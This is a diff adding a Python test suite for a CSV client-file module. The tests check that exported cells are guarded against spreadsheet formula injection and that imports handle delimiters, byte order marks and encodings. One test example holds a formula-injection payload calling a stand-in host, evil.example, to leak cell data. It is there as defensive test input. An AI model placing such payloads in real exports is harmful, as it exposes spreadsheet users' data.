@@ -1,0 +1,106 @@
+"""Clients as CSV: what spreadsheets write is read, and what is written is text to them."""
+
+import csv
+from io import StringIO
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from limits.configfile.client_csv import BYTE_ORDER_MARK, FileRefused, decoded, guarded, lines_of, unguarded, written
+from tests.configfile.documents import CHARACTERS
+from tests.support.histories import history_settings
+
+FORMULA = "=+-@\t\r\n＝＋－＠"
+CELLS = st.text(CHARACTERS | st.sampled_from("=+-@'\",;＝＋－＠ "), max_size=12)
+ROWS = st.lists(st.tuples(CELLS.filter(bool), CELLS, CELLS, CELLS), max_size=5)
+
+
+def cells_by(delimiter: str, text: str) -> list[str]:
+    """The cells as a spreadsheet that splits by this delimiter has them."""
+    rows = csv.reader(StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=delimiter)
+    return [cell for row in rows for cell in row]
+
+
+@history_settings(500)
+@given(rows=ROWS)
+@example(rows=[("=1+1", '=HYPERLINK("http://evil.example/"&A1)', "'=1", "''=1")])
+@example(rows=[("x;=1", 'x;"=1;"', ";'=1", '"=1')])
+@example(rows=[("two\u2028lines", "a\u0085b", "\u2029", "\ufeff")])
+@example(rows=[("\ufeff=1", "", "", "-")])
+def test_what_is_written_comes_back_and_is_no_formula(rows: list[tuple[str, ...]]) -> None:
+    text = "".join(written(rows))
+    assert text.startswith(f"{BYTE_ORDER_MARK}key,name,plan,status\r\n")
+    assert [tuple(line.fields.values()) for line in lines_of(text)] == rows
+    assert not [line.problem for line in lines_of(text) if line.problem]
+    for delimiter in ",;":
+        assert not [cell for cell in cells_by(delimiter, text) if cell.startswith(tuple(FORMULA))]
+
+
+@history_settings(500)
+@given(cell=st.text(st.sampled_from("=+-@'\",;\t\r\n＝ a"), max_size=12))
+def test_a_guard_is_taken_away_again(cell: str) -> None:
+    assert unguarded(guarded(cell)) == cell
+
+
+@pytest.mark.parametrize("begin", FORMULA)
+def test_a_cell_that_begins_like_a_formula(begin: str) -> None:
+    assert guarded(f"{begin}1") == f"'{begin}1"
+    assert guarded(f"'{begin}1") == f"''{begin}1"
+    assert guarded(f"a{begin}1'") == f"a{begin}1'"
+
+
+@pytest.mark.parametrize(
+    ("content", "found"),
+    [
+        ("key,name\na,b\n", [("a", "b")]),
+        ("\ufeffkey,name\ra,b\rc,d", [("a", "b"), ("c", "d")]),
+        ("sep=;\r\nkey;name\r\na;b,c\r\n", [("a", "b,c")]),
+        ("SEP=\t\nkey\tname\na\tb\n", [("a", "b")]),
+        ("key\tname\na\tb;c,d\n", [("a", "b;c,d")]),
+        ("key,name,,\na,b,,\nc,d\n", [("a", "b"), ("c", "d")]),
+        ("key,name\na,\n", [("a", "")]),
+        ("key,name\na\u2028b,c\u0085d\x0be\x1cf\n", [("a\u2028b", "c\u0085d\x0be\x1cf")]),
+        ("key\n'=1\n''=1\n'a\n", [("=1",), ("'=1",), ("'a",)]),
+    ],
+)
+def test_files_as_spreadsheets_write_them(content: str, found: list[tuple[str, ...]]) -> None:
+    lines = list(lines_of(content))
+    assert [tuple(line.fields.values()) for line in lines] == found
+    assert not [line.problem for line in lines if line.problem]
+
+
+def test_lines_are_counted_as_an_editor_counts_them() -> None:
+    content = 'sep=;\nkey;name\na;b\u2028c\n"d\ne";f\ng;h;i\n'
+    assert [(line.number, line.problem) for line in lines_of(content)] == [
+        (3, ""),
+        (5, ""),
+        (6, "It has 3 columns; the first line has 2."),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("content", "line", "message"),
+    [
+        ("", 1, "The file is empty"),
+        ("sep=;\n", 1, "The file is empty"),
+        ("\ufeff", 1, "The file is empty"),
+        (",,\n", 1, "one of them must be “key”"),
+        ("key,,name\n", 1, "no column “”"),
+        ("key\na\n" + "b" * 200_000, 3, "It cannot be read: field larger"),
+    ],
+)
+def test_what_is_no_file_of_clients(content: str, line: int, message: str) -> None:
+    with pytest.raises(FileRefused, match=message) as refused:
+        list(lines_of(content))
+    assert refused.value.line == line
+
+
+def test_the_encodings_of_spreadsheets() -> None:
+    text = "key\tname\nä\tÖ\n"
+    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
+        assert decoded(text.encode(encoding)) == text
+    assert decoded(b"\xfe\xff" + text.encode("utf-16-be")) == text
+    for broken in (b"key\n\xff\xfe\n", text.encode("latin-1"), b"\xff\xfea"):
+        with pytest.raises(UnicodeDecodeError):
+            decoded(broken)
